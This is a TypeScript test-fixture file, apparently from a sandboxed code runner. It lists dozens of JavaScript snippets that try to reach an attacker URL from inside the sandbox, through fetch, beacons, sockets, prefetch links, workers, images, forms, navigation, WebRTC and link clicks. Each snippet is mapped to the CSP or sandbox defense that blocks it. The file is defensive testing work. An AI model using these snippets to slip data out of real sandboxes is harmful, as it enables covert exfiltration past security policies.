/** Attempts by programs to reach a host, or to encode data in a host's name. */
import type { Attack } from './attack';
import { elementWays, type ElementWay } from './elementWays';

/** `code` can use `url`, a URL of the attacker. */
export interface NetworkAttack extends Attack {
  readonly code: string;
}

/**
 * These ways to create a link already failed before this defense existed, because another guard or the browser blocked
 * them.
 */
const heldBefore = new Set([
  'innerHTML with an object that changes',
  'DOMParser, an entity in XML',
  'whatever else parses HTML here',
  'insertHTML of an editor',
  'XSLT',
  'a response that is a document',
  'the element’s constructor',
  'a replaced exec',
  'a replaced iterator of arrays',
  'the guard deleted',
  'an own policy of Trusted Types',
  'another default policy of Trusted Types',
]);

/** All ways to create a link. The link connects to its host as soon as it's in the document. */
export const linkAttacks: readonly (Attack & ElementWay)[] = elementWays.map((way) => ({
  ...way,
  name: `link by ${way.name}`,
  defends: 'packages/runner/src/boot/elements.ts#link',
  before: heldBefore.has(way.name) ? 'held' : 'succeeded',
}));

const element = (rel: string, more = '') => `
  const link = document.createElement('link');
  ${more}
  link.rel = '${rel}';
  link.href = url;
  document.head.append(link);`;
const byGuard = {
  defends: 'packages/runner/src/boot/elements.ts#link',
  before: 'succeeded',
} as const;
const byPolicy = {
  defends: "packages/runner/src/host/document.ts#default-src 'none'",
  before: 'held',
} as const;
const byImages = {
  defends: 'packages/runner/src/host/document.ts#img-src data: blob:',
  before: 'held',
} as const;
const byScripts = {
  defends: "packages/runner/src/boot/modules.ts#script-src 'wasm-unsafe-eval' blob:",
  before: 'held',
} as const;
const byConnect = {
  defends: 'packages/runner/src/host/document.ts#connect-src data: blob:',
  before: 'held',
} as const;
const bySandbox = {
  defends: "packages/runner/src/host/frame.ts#'sandbox', 'allow-scripts'",
  before: 'held',
} as const;

/** Clicks on links. A browser can connect to a link's host before it checks the sandbox. */
const clickAttacks: readonly NetworkAttack[] = (
  [
    ['to a window', `a.target = '_blank'; document.body.append(a); a.click();`],
    ['that is in no document', `a.target = '_blank'; a.click();`],
    [
      'of the image map',
      `const area = document.createElement('area'); area.href = url; area.target = '_blank'; area.click();`,
    ],
    ['by an event', `a.target = '_blank'; a.dispatchEvent(new MouseEvent('click'));`],
    [
      'by an event that says it is another',
      `a.target = '_blank';
      const event = new MouseEvent('click');
      Object.defineProperty(event, 'type', { value: 'input' });
      a.dispatchEvent(event);`,
    ],
    [
      'whose target comes last',
      `document.body.append(a); a.addEventListener('click', () => { a.target = '_blank'; });
      a.dispatchEvent(new MouseEvent('click', { bubbles: true }));`,
    ],
    [
      'around a slot of a closed tree',
      `const host = document.createElement('div'); const child = document.createElement('b');
      a.target = '_blank'; a.append(document.createElement('slot'));
      host.attachShadow({ mode: 'closed' }).append(a); host.append(child); child.click();`,
    ],
    [
      'in a closed tree that is parsed',
      `const host = document.createElement('div');
      host.setHTMLUnsafe('<template shadowrootmode="closed"><a target=_blank href="' + url + '"><slot></slot></a></template><b></b>');
      document.body.append(host); host.querySelector('b').click();`,
    ],
    [
      'by the method of another element',
      `a.target = '_blank'; HTMLElement.prototype.click.call(a);`,
    ],
    ['itself', `document.body.append(a); a.click();`],
    ['that downloads', `a.download = 'a'; document.body.append(a); a.click();`],
  ] as const
).map(([name, code]) => ({
  name: `click on a link ${name}`,
  defends: 'packages/runner/src/boot/linkClicks.ts#refuseInLink',
  before: /image map|parsed/.test(name) ? 'held' : 'succeeded',
  code: `const a = document.createElement('a'); a.href = url; ${code}`,
}));

export const otherAttacks: readonly NetworkAttack[] = [
  { ...byGuard, name: 'rel=dns-prefetch', code: element('dns-prefetch') },
  { ...byGuard, name: 'rel=prefetch', code: element('prefetch'), before: 'held' },
  {
    ...byGuard,
    name: 'rel=preload',
    code: element('preload', "link.as = 'image';"),
    before: 'held',
  },
  { ...byGuard, name: 'rel=modulepreload', code: element('modulepreload'), before: 'held' },
  { ...byGuard, name: 'rel=stylesheet', code: element('stylesheet'), before: 'held' },
  { ...byGuard, name: 'rel=icon', code: element('icon'), before: 'held' },
  { ...byGuard, name: 'rel=manifest', code: element('manifest'), before: 'held' },
  { ...byGuard, name: 'rel=prerender', code: element('prerender'), before: 'held' },
  {
    ...byGuard,
    name: 'rel set afterwards',
    code: `const link = document.createElement('link'); link.href = url;
      document.head.append(link); link.relList.add('preconnect');`,
  },
  {
    ...byGuard,
    name: 'href set afterwards',
    code: `const link = document.createElement('link'); link.rel = 'preconnect';
      document.head.append(link); link.href = url;`,
  },
  {
    name: 'lookups of links switched on again',
    defends: 'packages/runner/src/host/document.ts#x-dns-prefetch-control',
    before: 'held',
    code: `const meta = document.createElement('meta');
      meta.httpEquiv = 'x-dns-prefetch-control'; meta.content = 'on';
      document.head.append(meta);
      const a = document.createElement('a'); a.href = url; a.textContent = 'a';
      document.body.append(a);`,
  },
  {
    ...byImages,
    name: 'a link in a picture',
    code: `const image = document.createElement('img');
      image.src = 'data:image/svg+xml,' + encodeURIComponent(
        '<svg xmlns="http://www.w3.org/2000/svg"><l:link xmlns:l="http://www.w3.org/1999/xhtml" rel="preconnect" href="' + url + '"/></svg>');
      document.body.append(image);`,
  },
  { ...byConnect, name: 'fetch', code: 'await fetch(url);' },
  {
    ...byConnect,
    name: 'fetch of another kind',
    code: `await fetch(url, { mode: 'no-cors', keepalive: true, credentials: 'include' });`,
  },
  {
    ...byConnect,
    name: 'fetchLater',
    code: 'globalThis.fetchLater(url, { activateAfter: 0 });',
  },
  {
    ...byConnect,
    name: 'the browser’s own fetch, by a request',
    code: 'await Reflect.getPrototypeOf(new Request(url)).constructor; await fetch(new Request(url));',
  },
  {
    ...byConnect,
    name: 'XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('GET', url); request.send();`,
  },
  { ...byConnect, name: 'WebSocket', code: `new WebSocket(url.replace('https', 'wss'));` },
  {
    ...byConnect,
    name: 'WebSocketStream',
    code: `new WebSocketStream(url.replace('https', 'wss'));`,
  },
  { ...byConnect, name: 'EventSource', code: 'new EventSource(url);' },
  { ...byConnect, name: 'WebTransport', code: 'await new WebTransport(url).ready;' },
  { ...byConnect, name: 'a beacon', code: `navigator.sendBeacon(url, 'data');` },
  {
    ...byConnect,
    name: 'a ping of a link',
    code: `const a = document.createElement('a'); a.href = location.href + '#here'; a.ping = url;
      document.body.append(a); a.click();`,
  },
  {
    ...byConnect,
    name: 'fetch in a worker',
    code: `new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '")'])));`,
  },
  {
    ...byScripts,
    name: 'importScripts in a worker',
    code: `new Worker(URL.createObjectURL(new Blob(['importScripts("' + url + '")'])));`,
  },
  {
    ...byConnect,
    name: 'a socket in a worker',
    code: `new Worker(URL.createObjectURL(new Blob(['new WebSocket("' + url.replace('https', 'wss') + '")'])));`,
  },
  {
    name: 'a worker',
    defends: 'packages/runner/src/host/document.ts#worker-src blob:',
    before: 'held',
    code: 'new Worker(url);',
  },
  {
    name: 'a shared worker',
    defends: 'packages/runner/src/host/document.ts#worker-src blob:',
    before: 'held',
    code: 'new SharedWorker(url);',
  },
  { ...byScripts, name: 'a module', code: 'await import(url);' },
  {
    ...byScripts,
    name: 'a module in a module',
    code: `await import(URL.createObjectURL(new Blob(['import "' + url + '"'], { type: 'text/javascript' })));`,
  },
  {
    ...byScripts,
    name: 'a script',
    code: `const script = document.createElement('script'); script.src = url; document.head.append(script);`,
  },
  {
    ...byScripts,
    name: 'speculation rules',
    code: `const script = document.createElement('script'); script.type = 'speculationrules';
      script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] });
      document.head.append(script);`,
  },
  { ...byImages, name: 'an image', code: 'new Image().src = url;' },
  {
    ...byImages,
    name: 'an image by markup',
    code: `document.body.insertAdjacentHTML('beforeend', '<img src="' + url + '">');`,
  },
  {
    ...byImages,
    name: 'an image’s srcset',
    code: `const image = document.createElement('img'); image.srcset = url; document.body.append(image);`,
  },
  {
    ...byImages,
    name: 'an image that reports its source',
    code: `const image = document.createElement('img'); image.setAttribute('attributionsrc', url); document.body.append(image);`,
  },
  {
    ...byImages,
    name: 'a background',
    code: `document.body.style.backgroundImage = 'url("' + url + '")'; document.body.getBoundingClientRect();`,
  },
  {
    ...byImages,
    name: 'an image in SVG',
    code: `document.body.insertAdjacentHTML('beforeend',
      '<svg><image href="' + url + '"/><use href="' + url + '#a"/><feImage href="' + url + '"/></svg>');`,
  },
  {
    ...byPolicy,
    name: 'a style sheet’s import',
    code: `const style = document.createElement('style'); style.textContent = '@import "' + url + '";'; document.head.append(style);`,
  },
  {
    ...byPolicy,
    name: 'a style sheet of a processing instruction',
    code: `document.insertBefore(document.createProcessingInstruction('xml-stylesheet', 'type="text/css" href="' + url + '"'), document.documentElement);`,
  },
  {
    ...byPolicy,
    name: 'a document type from elsewhere',
    code: `new DOMParser().parseFromString('<!DOCTYPE a SYSTEM "' + url + '"><a/>', 'application/xml');`,
  },
  {
    name: 'a font',
    defends: 'packages/runner/src/host/document.ts#font-src data:',
    before: 'held',
    code: `await new FontFace('own', 'url("' + url + '")').load();`,
  },
  {
    ...byPolicy,
    name: 'a video',
    code: `const video = document.createElement('video'); video.src = url; video.poster = url; document.body.append(video); video.load();`,
  },
  {
    ...byPolicy,
    name: 'a track',
    code: `document.body.insertAdjacentHTML('beforeend', '<video><track default src="' + url + '"></video>');`,
  },
  {
    name: 'a form',
    defends: "packages/runner/src/host/document.ts#form-action 'none'",
    before: 'held',
    code: `const form = document.createElement('form'); form.action = url; document.body.append(form); form.submit();`,
  },
  { ...bySandbox, name: 'a window', code: 'window.open(url);' },
  {
    ...bySandbox,
    name: 'a window, by a link',
    code: `const a = document.createElement('a'); a.href = url; a.target = '_blank'; document.body.append(a); a.click();`,
  },
  { ...bySandbox, name: 'the page’s address', code: 'window.top.location.href = url;' },
  {
    ...bySandbox,
    name: 'the page’s address, by a link',
    code: `const a = document.createElement('a'); a.href = url; a.target = '_top'; document.body.append(a); a.click();`,
  },
  { ...bySandbox, name: 'a service worker', code: 'await navigator.serviceWorker.register(url);' },
  {
    ...bySandbox,
    name: 'a payment method',
    code: `await new PaymentRequest([{ supportedMethods: url }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).canMakePayment();`,
  },
  {
    ...bySandbox,
    name: 'a login at another site',
    code: `await navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'a' }] } });`,
  },
  {
    name: 'a peer connection',
    defends: 'packages/runner/src/boot/stubs.ts#RTCPeerConnection',
    before: 'held',
    code: `const peer = new (globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection)({ iceServers: [{ urls: 'stun:' + new URL(url).host }] });
      peer.createDataChannel('a'); await peer.setLocalDescription();`,
  },
  {
    ...byPolicy,
    name: 'a report of the policy',
    code: `const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy';
      meta.content = "img-src 'none'; report-uri " + url; document.head.append(meta); new Image().src = 'data:,';`,
  },
  {
    ...bySandbox,
    name: 'artwork of what plays',
    code: `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url, sizes: '96x96' }] });
      navigator.mediaSession.playbackState = 'playing';`,
  },
  ...clickAttacks,
];

/**
 * Code that navigates the frame away. The browser still looks up the host and connects to it, but `frame-src` blocks
 * the request. The frame doesn't have private data to encode in a host name.
 */
export const navigationAttacks: readonly NetworkAttack[] = (
  [
    ['location', 'location.href = url;'],
    ['location.replace', 'location.replace(url);'],
    [
      'a refresh',
      `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + url; document.head.append(meta);`,
    ],
    ['the navigation interface', 'navigation.navigate(url);'],
  ] as const
).map(([name, code]) => ({
  name: `navigation by ${name}`,
  defends: "src/site/config.ts#frame-src 'self'",
  before: 'held',
  code,
}));

/** Returns a program that makes all attempts, each with its own URL. */
export function programFor(
  attacks: readonly NetworkAttack[],
  urlOf: (index: number) => string,
): string {
  const attempts = attacks.map(
    ({ code }, index) => `[${JSON.stringify(urlOf(index))}, async (url) => { ${code} }]`,
  );
  return `const results = [];
    for (const [url, attempt] of [${attempts.join(',\n')}]) {
      let outcome = 'done';
      try {
        await Promise.race([attempt(url), new Promise((resolve) => setTimeout(resolve, 300))]);
      } catch (error) { outcome = String(error); }
      results.push(outcome);
    }
    console.log('results ' + JSON.stringify(results));`;
}
